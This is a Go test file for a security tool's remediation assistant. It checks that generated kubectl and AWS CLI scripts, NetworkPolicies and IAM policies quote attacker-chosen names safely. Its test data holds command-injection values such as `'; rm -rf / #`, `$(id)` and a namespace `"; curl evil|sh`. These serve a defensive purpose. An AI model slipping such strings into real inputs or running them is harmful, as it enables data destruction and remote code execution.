package assist

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"maps"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/demo"
	"github.com/cairn-cdr/cairn/internal/demostore"
	"github.com/cairn-cdr/cairn/remediate"
)

// remedyNow anchors the demo scenarios of these tests.
var remedyNow = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

// hostileValues are what an attacker could put into an event's names.
var hostileValues = []string{
	`'; rm -rf / #`,
	`$(id)`,
	"`id`",
	"a\nb",
	"x\r\ny: z",
	`"quoted"`,
	`it's`,
	`a;b&c|d>e<f`,
	`\`,
	`${HOME}`,
	"- item",
	"key: value",
	"{a: 1}",
	"",
	" ",
	"é\u202eevil",
}

func TestShellQuote(t *testing.T) {
	table := []struct{ in, want string }{
		{"", `''`},
		{"abc", `'abc'`},
		{"it's", `'it'\''s'`},
		{`'; rm -rf / #`, `''\''; rm -rf / #'`},
		{"$(id)", `'$(id)'`},
		{"a\nb", "'a\nb'"},
		{`"`, `'"'`},
		{`''`, `''\'''\'''`},
	}
	for _, tc := range table {
		if got := remediate.ShellQuote(tc.in); got != tc.want {
			t.Errorf("remediate.ShellQuote(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("no sh")
	}
	for _, x := range hostileValues {
		out, err := exec.Command("sh", "-c", "printf %s "+remediate.ShellQuote(x)).Output()
		if err != nil {
			t.Fatalf("sh for %q: %v", x, err)
		}
		if string(out) != x {
			t.Errorf("sh printf of remediate.ShellQuote(%q) printed %q", x, out)
		}
	}
}

// shellWords splits one line of a generated script into words the way a
// POSIX shell does for the quoting the generator uses (single quotes,
// double quotes, backslashes, comments). It fails on an unterminated
// quote. Operators (;, |, >, $(...)) outside quotes stay inside words;
// callers check words, not shell semantics.
func shellWords(line string) ([]string, error) {
	var words []string
	var cur strings.Builder
	in := false // a word is open
	for i := 0; i < len(line); i++ {
		ch := line[i]
		switch {
		case ch == ' ' || ch == '\t':
			if in {
				words = append(words, cur.String())
				cur.Reset()
				in = false
			}
		case ch == '#' && !in:
			return words, nil
		case ch == '\'':
			j := strings.IndexByte(line[i+1:], '\'')
			if j < 0 {
				return nil, errors.New("unterminated single quote")
			}
			cur.WriteString(line[i+1 : i+1+j])
			i += j + 1
			in = true
		case ch == '"':
			i++
			for ; i < len(line) && line[i] != '"'; i++ {
				if line[i] == '\\' && i+1 < len(line) {
					i++
				}
				cur.WriteByte(line[i])
			}
			if i >= len(line) {
				return nil, errors.New("unterminated double quote")
			}
			in = true
		case ch == '\\' && i+1 < len(line):
			i++
			cur.WriteByte(line[i])
			in = true
		default:
			cur.WriteByte(ch)
			in = true
		}
	}
	if in {
		words = append(words, cur.String())
	}
	return words, nil
}

// scriptWords returns the words of every line of a script; a line that
// does not parse, or a quoted string spanning lines, fails the test.
func scriptWords(t *testing.T, script string) [][]string {
	t.Helper()
	var out [][]string
	for _, line := range strings.Split(script, "\n") {
		w, err := shellWords(line)
		if err != nil {
			t.Fatalf("script line %q: %v\n%s", line, err, script)
		}
		out = append(out, w)
	}
	return out
}

func TestRemedyScriptQuotesArguments(t *testing.T) {
	for _, x := range hostileValues {
		if strings.ContainsAny(x, "\n\r") {
			continue // shellWords reads one line; printf above covers newlines
		}
		var s remedyScript
		s.cmd(lit("kubectl label pod -n"), x, "pod", lit(">"), x)
		s.comment("note %s", x)
		lines := scriptWords(t, s.String())
		want := []string{"kubectl", "label", "pod", "-n", x, "pod", ">", x}
		if !slices.Equal(lines[0], want) {
			t.Errorf("cmd with %q: words %q, want %q", x, lines[0], want)
		}
		if len(lines[1]) != 0 {
			t.Errorf("comment with %q has words %q", x, lines[1])
		}
	}
	var s remedyScript
	s.comment("identity %s", "a\nrm -rf /\r# b")
	if got := strings.Count(s.String(), "\n"); got != 1 {
		t.Errorf("comment with a newline spans %d lines: %q", got, s.String())
	}
}

func TestRemedyBuildersKeepValuesWhole(t *testing.T) {
	for _, x := range hostileValues {
		labels := map[string]string{"app": x, x: "v"}
		y := denyAllNetworkPolicy("cairn-isolate-x", x, labels, "isolates "+x)
		var np networkPolicy
		if err := yaml.Unmarshal([]byte(y), &np); err != nil {
			t.Fatalf("policy with %q does not parse: %v\n%s", x, err, y)
		}
		if np.Metadata.Namespace != x || !maps.Equal(np.Spec.PodSelector.MatchLabels, labels) || np.Metadata.Annotations["cairn.io/reason"] != "isolates "+x {
			t.Errorf("policy with %q read back as %+v\n%s", x, np, y)
		}
		var attrs []map[string]string
		if err := json.Unmarshal([]byte(lookupAttr("Username", x)), &attrs); err != nil || len(attrs) != 1 || attrs[0]["AttributeValue"] != x {
			t.Errorf("lookupAttr(%q) = %s (%v)", x, lookupAttr("Username", x), err)
		}
		code := remedyCode(x)
		if strings.ContainsAny(code, "\n\r") {
			t.Errorf("remedyCode(%q) = %q spans lines", x, code)
		}
	}
	if got := remedyCode("a`b"); got != "``a`b``" {
		t.Errorf("remedyCode(a`b) = %q", got)
	}
}

// parsedPolicy is how the tests read a NetworkPolicy back.
type parsedPolicy struct {
	APIVersion string `yaml:"apiVersion"`
	Kind       string `yaml:"kind"`
	Metadata   struct {
		Name      string `yaml:"name"`
		Namespace string `yaml:"namespace"`
	} `yaml:"metadata"`
	Spec struct {
		PodSelector struct {
			MatchLabels map[string]string `yaml:"matchLabels"`
		} `yaml:"podSelector"`
		PolicyTypes []string `yaml:"policyTypes"`
		Ingress     []any    `yaml:"ingress"`
		Egress      []any    `yaml:"egress"`
	} `yaml:"spec"`
}

func policiesOf(t *testing.T, a Answer) []parsedPolicy {
	t.Helper()
	var ps []parsedPolicy
	for _, art := range a.Artifacts {
		if art.Kind != ArtifactNetworkPolicy {
			continue
		}
		var p parsedPolicy
		if err := yaml.Unmarshal([]byte(art.Content), &p); err != nil {
			t.Fatalf("NetworkPolicy %s does not parse: %v\n%s", art.Name, err, art.Content)
		}
		if p.APIVersion != "networking.k8s.io/v1" || p.Kind != "NetworkPolicy" || p.Metadata.Name == "" ||
			!slices.Equal(p.Spec.PolicyTypes, []string{"Ingress", "Egress"}) || p.Spec.Ingress != nil || p.Spec.Egress != nil {
			t.Errorf("NetworkPolicy %s is not a deny-all policy:\n%s", art.Name, art.Content)
		}
		ps = append(ps, p)
	}
	return ps
}

// selects reports whether any of ps selects a pod of namespace ns with
// labels: matchLabels is a subset of the pod's labels.
func selects(ps []parsedPolicy, ns string, labels map[string]string) bool {
	for _, p := range ps {
		if p.Metadata.Namespace != ns || len(p.Spec.PodSelector.MatchLabels) == 0 {
			continue
		}
		all := true
		for k, v := range p.Spec.PodSelector.MatchLabels {
			if lv, ok := labels[k]; !ok || lv != v {
				all = false
			}
		}
		if all {
			return true
		}
	}
	return false
}

func artifactsOf(a Answer, kind string) string {
	var b strings.Builder
	for _, art := range a.Artifacts {
		if art.Kind == kind {
			b.WriteString(art.Content)
		}
	}
	return b.String()
}

func storyOf(t *testing.T, tr demo.Truth, id string) demo.Story {
	t.Helper()
	for _, s := range tr.Stories {
		if s.ID == id {
			return s
		}
	}
	t.Fatalf("no story %s", id)
	return demo.Story{}
}

// podLabels reads the labels of a pod from one of its stored events.
func podLabels(t *testing.T, st Store, ns, pod string) map[string]string {
	t.Helper()
	page, err := st.QueryEvents(context.Background(), cairn.EventQuery{
		Filter: `k8s.ns.name = "` + ns + `" and k8s.pod.name = "` + pod + `"`, Limit: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Events) == 0 || page.Events[0].K8s == nil {
		return nil
	}
	return page.Events[0].K8s.Labels
}

func TestIsolateMinerNamespace(t *testing.T) {
	for _, seed := range []int64{1, 2} {
		fx := demostore.Open(t, seed, remedyNow)
		ctx := context.Background()
		tr := fx.Scenario.Truth
		miner := storyOf(t, tr, demo.StoryMiner)
		ns := miner.Workloads[0].Namespace
		c, err := Load(ctx, fx.Store, NewScope(Entity{Kind: KindNamespace, Value: ns}))
		if err != nil {
			t.Fatal(err)
		}
		a, err := answerIsolate(ctx, Env{Store: fx.Store, Now: remedyNow}, c, Parsed{Intent: IntentIsolate})
		if err != nil {
			t.Fatal(err)
		}
		ps := policiesOf(t, a)
		if len(ps) == 0 {
			t.Fatalf("seed %d: no NetworkPolicy:\n%s", seed, a.Text)
		}
		for _, p := range ps {
			if p.Metadata.Namespace != ns {
				t.Errorf("seed %d: policy %s in namespace %q, want %q", seed, p.Metadata.Name, p.Metadata.Namespace, ns)
			}
		}
		kube := artifactsOf(a, ArtifactKubectl)
		var minerPods []string
		for _, w := range miner.Workloads {
			minerPods = append(minerPods, w.Namespace+"/"+w.Pod)
			labels := podLabels(t, fx.Store, w.Namespace, w.Pod)
			if len(labels) == 0 {
				t.Fatalf("seed %d: no labels for miner pod %s", seed, w.Pod)
			}
			if !selects(ps, w.Namespace, labels) {
				t.Errorf("seed %d: miner pod %s (labels %v) not selected", seed, w.Pod, labels)
			}
			for _, want := range []string{
				"kubectl label pod --overwrite -n " + remediate.ShellQuote(w.Namespace) + " " + remediate.ShellQuote(w.Pod) + " 'cairn.io/quarantine=true'",
				"kubectl logs --all-containers --timestamps -n " + remediate.ShellQuote(w.Namespace) + " " + remediate.ShellQuote(w.Pod),
				"kubectl delete pod --wait=false -n " + remediate.ShellQuote(w.Namespace) + " " + remediate.ShellQuote(w.Pod),
				"kubectl scale --replicas=0 -n " + remediate.ShellQuote(w.Namespace) + " " + remediate.ShellQuote("deployment/"+w.Workload),
				"kubectl cordon " + remediate.ShellQuote(w.Node),
			} {
				if !strings.Contains(kube, want) {
					t.Errorf("seed %d: kubectl artifact lacks %q", seed, want)
				}
			}
			if !strings.Contains(a.Text, w.Pod) {
				t.Errorf("seed %d: answer does not name pod %s", seed, w.Pod)
			}
		}
		// Capture before anything is removed.
		lastCapture := strings.LastIndex(kube, "kubectl logs")
		firstRemove := min(strings.Index(kube, "kubectl scale"), strings.Index(kube, "kubectl delete"))
		if lastCapture < 0 || firstRemove < 0 || lastCapture > firstRemove {
			t.Errorf("seed %d: capture (%d) not before removal (%d):\n%s", seed, lastCapture, firstRemove, kube)
		}
		// No pod outside the story is selected.
		var others []demo.Workload
		others = append(others, tr.Background.Workloads...)
		for _, s := range tr.Stories {
			if s.ID != demo.StoryMiner {
				others = append(others, s.Workloads...)
			}
		}
		for _, w := range others {
			if slices.Contains(minerPods, w.Namespace+"/"+w.Pod) {
				continue
			}
			if labels := podLabels(t, fx.Store, w.Namespace, w.Pod); labels != nil && selects(ps, w.Namespace, labels) {
				t.Errorf("seed %d: background pod %s/%s selected", seed, w.Namespace, w.Pod)
			}
		}
		checkEvidence(t, c, a)
		scriptWords(t, kube)
		scriptWords(t, artifactsOf(a, ArtifactAWSCLI))
		// The nodes' instance ids are not in a namespace's case: the
		// answer says so instead of inventing them.
		if !strings.Contains(a.Text, "instance id is not in the case") {
			t.Errorf("seed %d: unknown instance ids not reported:\n%s", seed, a.Text)
		}
	}
}

// checkEvidence checks that an answer's evidence are detections of c.
func checkEvidence(t *testing.T, c *Case, a Answer) {
	t.Helper()
	if len(a.Evidence) == 0 {
		t.Error("no evidence")
	}
	for _, id := range a.Evidence {
		if !slices.ContainsFunc(c.Detections, func(d cairn.Detection) bool { return d.ID == id }) {
			t.Errorf("evidence %s is not a detection of the case", id)
		}
	}
}

func TestFixScarleteelIdentities(t *testing.T) {
	for _, seed := range []int64{1, 2} {
		fx := demostore.Open(t, seed, remedyNow)
		ctx := context.Background()
		story := storyOf(t, fx.Scenario.Truth, demo.StoryScarleteel)
		var ents []Entity
		for _, id := range story.Identities {
			ents = append(ents, Entity{Kind: KindIdentity, Value: id})
		}
		c, err := Load(ctx, fx.Store, NewScope(ents...))
		if err != nil {
			t.Fatal(err)
		}
		env := Env{Store: fx.Store, Now: remedyNow}
		a, err := answerFix(ctx, env, c, Parsed{Intent: IntentFix})
		if err != nil {
			t.Fatal(err)
		}
		aws := artifactsOf(a, ArtifactAWSCLI)
		scriptWords(t, aws)
		for _, id := range story.Identities {
			if !strings.Contains(a.Text, id) {
				t.Errorf("seed %d: answer does not name identity %s", seed, id)
			}
		}
		for _, k := range story.AccessKeys {
			if !strings.Contains(a.Text, k) || !strings.Contains(aws, k) {
				t.Errorf("seed %d: access key %s missing from the answer or its commands", seed, k)
			}
		}
		var user, role string
		for _, id := range story.Identities {
			if n := arnName(id, ":user/"); n != "" {
				user = n
			}
			if n := arnName(id, ":role/"); n != "" {
				role = n
			}
		}
		if user == "" || role == "" {
			t.Fatalf("seed %d: truth identities %v: want a user and a role", seed, story.Identities)
		}
		for _, k := range story.AccessKeys {
			if strings.HasPrefix(k, "AKIA") {
				want := "aws iam update-access-key --user-name " + remediate.ShellQuote(user) + " --access-key-id " + remediate.ShellQuote(k) + " --status Inactive"
				if !strings.Contains(aws, want) {
					t.Errorf("seed %d: commands lack %q:\n%s", seed, want, aws)
				}
			}
		}
		for _, want := range []string{
			"aws iam delete-login-profile --user-name " + remediate.ShellQuote(user),
			"aws iam put-user-policy --user-name " + remediate.ShellQuote(user) + " --policy-name CairnDenyAll",
			"aws iam put-role-policy --role-name " + remediate.ShellQuote(role) + " --policy-name AWSRevokeOlderSessions",
			"--instance-id " + remediate.ShellQuote(story.RootCause.InstanceID),
		} {
			if !strings.Contains(aws, want) {
				t.Errorf("seed %d: commands lack %q:\n%s", seed, want, aws)
			}
		}
		var deny, revoke bool
		for _, art := range a.Artifacts {
			if art.Kind != ArtifactIAMPolicy {
				continue
			}
			var pol struct {
				Version   string
				Statement []struct {
					Effect, Action, Resource string
					Condition                map[string]map[string]string
				}
			}
			if err := json.Unmarshal([]byte(art.Content), &pol); err != nil {
				t.Fatalf("seed %d: policy %s: %v\n%s", seed, art.Name, err, art.Content)
			}
			if pol.Version != "2012-10-17" || len(pol.Statement) != 1 {
				t.Fatalf("seed %d: policy %s: %s", seed, art.Name, art.Content)
			}
			s := pol.Statement[0]
			if s.Effect != "Deny" || s.Action != "*" || s.Resource != "*" {
				t.Errorf("seed %d: policy %s is not deny-all: %s", seed, art.Name, art.Content)
			}
			if s.Condition == nil {
				deny = true
			} else if s.Condition["DateLessThan"]["aws:TokenIssueTime"] == "2026-11-25T12:00:00Z" {
				revoke = true
			}
			// The policy inside the command is the same document.
			var one bytes.Buffer
			if err := json.Compact(&one, []byte(art.Content)); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(aws, remediate.ShellQuote(one.String())) {
				t.Errorf("seed %d: policy %s not in the commands", seed, art.Name)
			}
		}
		if !deny || !revoke {
			t.Errorf("seed %d: deny-all %v, revoke-older-sessions %v", seed, deny, revoke)
		}
		checkEvidence(t, c, a)

		// Isolation of the same scope quarantines the instance whose
		// credentials were stolen, named by the session.
		iso, err := answerIsolate(ctx, env, c, Parsed{Intent: IntentIsolate})
		if err != nil {
			t.Fatal(err)
		}
		want := `aws ec2 modify-instance-attribute --groups "$QUARANTINE_SG" --instance-id ` + remediate.ShellQuote(story.RootCause.InstanceID)
		if !strings.Contains(artifactsOf(iso, ArtifactAWSCLI), want) {
			t.Errorf("seed %d: isolation lacks %q:\n%s", seed, want, artifactsOf(iso, ArtifactAWSCLI))
		}
	}
}

func TestRemedyEmptyCase(t *testing.T) {
	c := &Case{Scope: NewScope(Entity{Kind: KindNamespace, Value: "nothing-here"}), Events: map[string]*cairn.Event{}}
	for _, f := range []answerFunc{answerFix, answerIsolate} {
		a, err := f(context.Background(), Env{Now: remedyNow}, c, Parsed{})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(a.Text, "no detections") || len(a.Artifacts) != 0 || len(a.Evidence) != 0 {
			t.Errorf("empty case answered %+v", a)
		}
	}
}

// hostileCase is a case whose events carry attacker-chosen names.
func hostileCase() *Case {
	c := &Case{Scope: NewScope(), Events: map[string]*cairn.Event{}}
	add := func(id string, ev cairn.Event) {
		ev.ID = "ev-" + id
		c.Events[ev.ID] = &ev
		c.Detections = append(c.Detections, cairn.Detection{ID: id, Rule: "rule " + id, EventIDs: []string{ev.ID}, Entities: cairn.EntitiesOf(&ev)})
	}
	k8s := func(ns, pod string, labels map[string]string) *cairn.K8s {
		return &cairn.K8s{Cluster: "c1", Namespace: ns, Pod: pod, Labels: labels, WorkloadKind: "Deployment", WorkloadName: "web"}
	}
	add("d-badpod", cairn.Event{Host: "node-1", K8s: k8s("shop", `web-1'; rm -rf / #`, map[string]string{"app": "web"})})
	add("d-badlabel", cairn.Event{Host: "node-1", K8s: k8s("shop", "web-2", map[string]string{"app": "$(id)\nx: y"})})
	add("d-badns", cairn.Event{Host: "node-1", K8s: k8s(`"; curl evil|sh`, "web-3", map[string]string{"app": "web"})})
	add("d-badnode", cairn.Event{Host: "node-2;reboot", K8s: k8s("shop", "web-4", map[string]string{"app": "web", "flag": "true", "mode": "null", "perm": "0755"})})
	add("d-user", cairn.Event{Cloud: &cairn.CloudCall{EventName: "ListUsers", SourceIP: "203.0.113.9",
		Identity: cairn.Identity{Key: "arn:aws:iam::1:user/x\n$(id)", Type: "IAMUser", UserName: "x'; rm -rf / #", AccessKeyID: "AKIA$(id)'"}}})
	add("d-role", cairn.Event{Cloud: &cairn.CloudCall{EventName: "GetCallerIdentity",
		Identity: cairn.Identity{Key: "arn:aws:iam::1:role/node", Type: "AssumedRole", IssuerARN: "arn:aws:iam::1:role/node",
			SessionName: "i-0123456789abcdef0", AccessKeyID: "ASIAAAAAAAAAAAAAAAAA"}}})
	return c
}

func TestRemedyHostileValues(t *testing.T) {
	c := hostileCase()
	bad := []string{"rm -rf", "$(id)", `"; curl`, "reboot", "x: y"}
	for _, f := range []answerFunc{answerFix, answerIsolate} {
		a, err := f(context.Background(), Env{Now: remedyNow}, c, Parsed{})
		if err != nil {
			t.Fatal(err)
		}
		for _, art := range a.Artifacts {
			var words [][]string
			switch art.Kind {
			case ArtifactKubectl, ArtifactAWSCLI:
				words = scriptWords(t, art.Content)
			case ArtifactIAMPolicy:
				if !json.Valid([]byte(art.Content)) {
					t.Errorf("policy %s is not JSON", art.Name)
				}
			}
			// Rejected names never reach a command; comments show them
			// on one line.
			for _, ws := range words {
				for _, w := range ws {
					for _, b := range bad {
						if strings.Contains(w, b) {
							t.Errorf("%s artifact %s: word %q carries %q", a.Text[:20], art.Name, w, b)
						}
					}
				}
			}
		}
		ps := policiesOf(t, a)
		if f2 := artifactsOf(a, ArtifactNetworkPolicy); f2 != "" {
			for _, b := range bad {
				if strings.Contains(f2, b) {
					t.Errorf("NetworkPolicy carries %q:\n%s", b, f2)
				}
			}
		}
		for _, warn := range []string{"web-1'; rm -rf / #", `$(id)\x0ax: y`, `"; curl evil|sh`, "node-2;reboot", `x'; rm -rf / #`, `AKIA$(id)'`} {
			if !strings.Contains(a.Text, warn) {
				t.Errorf("answer does not warn about %q:\n%s", warn, a.Text)
			}
		}
		if !strings.Contains(a.Text, "⚠") {
			t.Error("no warning")
		}
		if strings.Contains(a.Text, "x\n$(id)") {
			t.Error("identity key printed with its raw newline")
		}
		if len(ps) > 0 {
			// Only web-4 is valid; its label values that YAML would read
			// as a bool, null or a number stay strings.
			if len(ps) != 1 {
				t.Fatalf("%d policies, want 1", len(ps))
			}
			want := map[string]string{"app": "web", "flag": "true", "mode": "null", "perm": "0755"}
			if got := ps[0].Spec.PodSelector.MatchLabels; !maps.Equal(got, want) || ps[0].Metadata.Namespace != "shop" {
				t.Errorf("policy selects %v in %s, want %v in shop", got, ps[0].Metadata.Namespace, want)
			}
		}
	}
}
